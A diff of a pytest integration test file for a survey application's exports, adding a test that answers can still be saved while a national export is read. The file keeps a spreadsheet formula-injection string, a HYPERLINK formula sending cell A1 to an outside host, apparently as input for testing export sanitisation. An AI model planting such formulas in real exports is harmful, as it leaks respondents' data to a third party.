@@ -17,7 +17,7 @@ import pytest
 import sqlalchemy as sa
 
 from survey.demo_answers import fill_round
-from survey.exports import dataset
+from survey.exports import dataset, writers
 from survey.exports.dataset import READ_PROGRESS, Filters, participant_count
 from survey.exports.service import FORMATS, ExportError, build_export
 from survey.extensions import db
@@ -25,7 +25,7 @@ from survey.instruments import get_registry
 from survey.models import AgeBand, Answer, AuditEvent, Group, Participant, Round, Submission
 from survey.participants import register_participants
 from survey.pseudonyms import research_id
-from tests.integration.conftest import COORDINATOR, EVALUATOR
+from tests.integration.conftest import COORDINATOR, EVALUATOR, save_elsewhere
 from tests.integration.exports import expected
 
 INJECTION = '=HYPERLINK("http://x/?"&A1)'
@@ -854,3 +854,28 @@ def test_a_young_childs_score_counts_only_the_items_asked_at_their_age(app, demo
     got = {row["research_id"]: row["ci_inclusion"] for row in rows if row["research_id"] in wanted}
     assert len(wanted) >= 5  # the demo has such children
     assert {rid: float(value) for rid, value in got.items()} == pytest.approx(wanted)
+
+
+@pytest.mark.parametrize("export_format", ["sav", "csv-long"])
+def test_answers_are_saved_while_an_export_is_read(demo, export_format, monkeypatch):
+    # A national export reads for many seconds; on SQLite a transaction that took the write
+    # lock for it would make every respondent's save wait and then fail ("database is locked").
+    saved = []
+    write = writers.write_stats_file
+
+    def write_and_save(*args, **kwargs):  # type: ignore[no-untyped-def]
+        save_elsewhere()  # in the middle of the export's reading
+        saved.append(export_format)
+        return write(*args, **kwargs)
+
+    monkeypatch.setattr(writers, "write_stats_file", write_and_save)
+    export = build_export(Filters(demo, baseline(demo)), export_format, actor_user_id=None)
+    db.session.commit()  # as the page and the command do before the file is sent
+    if export.chunks is not None:
+        chunks = iter(export.chunks)
+        first = next(chunks)
+        save_elsewhere()  # in the middle of the stream
+        saved.append(export_format)
+        assert first.startswith("\ufeffresearch_id") and "".join(chunks)
+    assert saved == [export_format]
+    assert export_events() == 1
